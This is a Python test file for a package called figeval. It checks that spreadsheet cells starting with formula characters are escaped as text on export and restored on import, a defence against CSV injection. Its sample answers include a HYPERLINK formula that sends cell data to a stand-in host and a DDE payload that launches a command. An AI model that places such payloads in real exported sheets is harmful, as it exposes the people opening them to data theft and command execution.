"""Cells that would run as formulas in a spreadsheet are written as text and read back unchanged (OWASP's CSV
injection rule), in every sheet figeval writes for people and reads back."""

import csv
import io
from pathlib import Path

import pytest

from figeval._registry import annotation_spec
from figeval.annotation.sheets import AnnotationItem, read_annotators, write_sheet
from figeval.data.table import Column, read_table
from figeval.spreadsheet import SheetWriter, from_cell, to_cell

# Model answers a spreadsheet would run: each formula start, a DDE payload, one hiding behind an apostrophe
ANSWERS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1", "'=already marked", "''-two marks"]


@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"),
    ("+A1", "'+A1"),
    ("-A1", "'-A1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("'=1", "''=1"),  # an apostrophe of the answer's own is kept: one more is added, and one is removed on reading
    ("-3.2", "-3.2"),  # a number is read as a number, not a formula: left alone
    ("+1", "+1"),
    ("به بار آوردن", "به بار آوردن"),
    ("'quoted'", "'quoted'"),  # an apostrophe before ordinary text is the text's own
    ("", ""),
])
def test_cells_are_marked_as_text_and_read_back_as_they_were(text: str, written: str):
    assert to_cell(text) == written
    assert from_cell(written) == text


def test_numbers_and_empty_cells_pass_through():
    assert to_cell(0.25) == 0.25 and to_cell(None) is None


def test_an_exported_sheet_opens_as_text_and_imports_back_unchanged(tmp_path: Path):
    items = [AnnotationItem("ffe_generation", "replay/m", f"ffe-gen-{i:03d}/human", "معنی", "مرجع", answer)
             for i, answer in enumerate(ANSWERS, start=1)]
    sheet = tmp_path / "sheet.csv"
    write_sheet(items, sheet, annotation_spec("ffe_generation").instructions)

    # What a spreadsheet sees: every answer cell begins with the text mark, so none runs
    text = sheet.read_bytes().decode("utf-8-sig")  # as written: no newline translation
    rows = list(csv.DictReader(io.StringIO(text, newline="")))  # the header on the first line
    assert [row["output"] for row in rows] == ["'" + answer for answer in ANSWERS]

    # An annotator fills the labels; the import reads every row, and the answers read back are the model's own
    for row in rows:
        row["label"] = "0"
    filled = tmp_path / "filled.csv"
    with filled.open("w", encoding="utf-8-sig", newline="") as handle:
        # as a spreadsheet saves it: a cell with a line break quoted
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n", quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerows(rows)
    task, by_annotator = read_annotators(filled, annotation_spec)
    assert task == "ffe_generation" and len(by_annotator[""]) == len(ANSWERS)
    assert [from_cell(row["output"]) for row in rows] == ANSWERS


def test_a_sheet_figeval_writes_reads_back_through_read_table(tmp_path: Path):
    sheet = tmp_path / "paraphrases.csv"
    with sheet.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = SheetWriter(handle)
        writer.writerow(["row", "paraphrase"])
        writer.writerows([str(i), answer] for i, answer in enumerate(ANSWERS, start=1))
    rows = read_table(sheet, (Column("row"), Column("paraphrase")))
    # the mark also keeps a leading tab or carriage return, which read_table would otherwise strip
    assert [row.cells["paraphrase"] for row in rows] == ANSWERS
